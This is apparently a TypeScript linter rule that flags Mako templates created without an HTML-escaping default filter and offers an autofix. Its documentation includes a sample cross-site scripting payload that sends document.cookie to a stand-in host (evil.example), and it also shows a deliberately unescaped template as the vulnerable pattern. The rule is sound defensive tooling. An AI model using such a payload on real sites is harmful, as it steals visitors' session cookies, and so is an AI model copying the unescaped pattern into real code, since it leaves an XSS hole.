import { defineRule, fix, replace } from '../../engine/rule';
import { callArgs, stringValue, unparen } from '../../engine/syntax';
import type { Fix } from '../../engine/types';
import { appendArgument } from '../util/edits';
import { constantString } from '../util/process';

const TEMPLATE_CLASSES = new Set(['mako.template.Template', 'mako.lookup.TemplateLookup']);
/** Filter names that HTML- or XML-escape (Mako's `h` and `x`, or an imported escape function). */
const ESCAPING_FILTERS = /^(?:h|x|escape|html_escape|xml_escape|markupsafe\.escape|cgi\.escape|html\.escape|filters\.html_escape)$/;
/** File names that say the template renders something other than HTML (Alembic's `script.py.mako`). */
const NOT_HTML = /\.(?:py|txt|text|sql|cfg|conf|ini|ya?ml|toml|json|sh|md|rst|csv|c|h|js|ts|css)(?:\.mako)?$/i;

export default defineRule({
  id: 'SEC702',
  name: 'mako-templates',
  local: true,
  summary: 'Mako template or lookup without `default_filters=["h"]`: expressions are inserted into HTML unescaped',
  owasp: { '2025': 'A05', '2021': 'A03' },
  cwe: [79, 116],
  severity: 'error',
  confidence: 'medium',
  fix: 'sometimes',
  aliases: ['B702', 'S702'],
  tags: ['mako', 'xss'],
  nodeTypes: ['call'],
  appliesTo: (file, facts) => !file.isTest && facts.importedModules.has('mako'),
  check(call, ctx) {
    const name = ctx.callName(call);
    if (!name || !TEMPLATE_CLASSES.has(name)) return;
    const args = callArgs(call);
    // Options passed through `**options` cannot be seen.
    if (args.hasStarKwargs) return;
    const isLookup = name.endsWith('TemplateLookup');
    const cls = isLookup ? 'TemplateLookup' : 'Template';
    const filename = constantString(args.keywords.get('filename') ?? args.keywords.get('uri') ?? null, ctx);
    if (filename !== null && NOT_HTML.test(filename)) return;
    const filters = args.keywords.get('default_filters');
    const fn = call.childForFieldName('function') ?? call;
    if (filters) {
      const list = unparen(filters);
      // A list computed elsewhere is the author's decision.
      if (list.type !== 'list' && list.type !== 'tuple') return;
      const items = list.namedChildren.filter((c) => c && c.type !== 'comment');
      const names = items.map((c) => stringValue(c));
      if (names.some((n) => n === null) || names.some((n) => ESCAPING_FILTERS.test(n!))) return;
      const fixes: Fix[] = [];
      if (list.type === 'list') {
        const edit = items.length === 0 ? replace(list, '["h"]') : replace({ start: items[items.length - 1]!.endIndex, end: items[items.length - 1]!.endIndex }, ', "h"');
        fixes.push(fix('Add the `h` (HTML escape) filter to `default_filters`', 'unsafe', edit));
      }
      ctx.report(args.keywordNodes.get('default_filters')!, { message: `Mako \`${cls}\` has \`default_filters\` without an HTML-escaping filter: expressions are inserted unescaped`, fixes });
      return;
    }
    const edit = appendArgument(ctx, call, 'default_filters=["h"]');
    // An inline template with markup, or an `.html` file, certainly renders HTML.
    const text = constantString(args.keywords.get('text') ?? (isLookup ? null : args.positional[0]) ?? null, ctx);
    const html = (text !== null && /<[A-Za-z!/]/.test(text)) || (filename !== null && /\.x?html?(?:\.mako)?$/i.test(filename));
    ctx.report(fn, {
      message: `Mako \`${cls}\` is created without \`default_filters=["h"]\`: Mako does not escape \`\${...}\` expressions by default`,
      confidence: html ? 'high' : 'medium',
      fixes: edit ? [fix('Escape every expression (`default_filters=["h"]`)', 'unsafe', edit)] : [],
    });
  },
  docs: {
    what: `Finds \`mako.template.Template(...)\` and \`mako.lookup.TemplateLookup(...)\` created without an HTML-escaping default filter: no \`default_filters\`, or a literal list without \`h\` (or \`x\`, \`escape\`, \`html_escape\`, \`markupsafe.escape\`). Confidence is high when the template is clearly HTML (inline markup, an \`.html\` file name), medium otherwise. Templates whose \`filename\`/\`uri\` says they render something else (\`script.py.mako\` as Alembic uses, \`.txt\`, \`.sql\`, \`.yaml\`...), \`default_filters\` computed elsewhere, \`**options\`, and test files are not reported.`,
    why: `Unlike Django and Jinja2's \`select_autoescape\`, Mako inserts \`\${name}\` into the output as it is: its default filters only convert to text. A user name such as \`<script>fetch('//evil.example/?c='+document.cookie)</script>\` rendered in a page runs in every visitor's browser (stored or reflected cross-site scripting), unless every expression remembers \`| h\`.`,
    example: `from mako.template import Template

PAGE = Template("<h1>Hello \${name}</h1>")

def greet(name: str) -> str:
    return PAGE.render(name=name)`,
    useInstead: `from mako.template import Template

PAGE = Template("<h1>Hello \${name}</h1>", default_filters=["h"])

def greet(name: str) -> str:
    return PAGE.render(name=name)`,
    fixSafety: `The fix adds \`default_filters=["h"]\` (or adds \`"h"\` to an existing literal list); it is unsafe. Every expression is then HTML-escaped, so values that deliberately hold trusted markup (a rendered Markdown body, a widget's HTML) appear as text until they are marked with \`| n\` in the template (which disables the default filters for that expression) or wrapped in \`markupsafe.Markup\`. Replacing Mako's default \`str\` filter with \`h\` still converts values to text, so other output is unchanged.`,
    references: [
      { title: 'Mako docs: Filtering and Buffering — the default_filters argument', url: 'https://docs.makotemplates.org/en/latest/filtering.html#the-default-filters-argument' },
      { title: 'OWASP Cross Site Scripting Prevention Cheat Sheet', url: 'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html' },
      { title: 'Bandit B702: use_of_mako_templates', url: 'https://bandit.readthedocs.io/en/latest/plugins/b702_use_of_mako_templates.html' },
    ],
  },
});
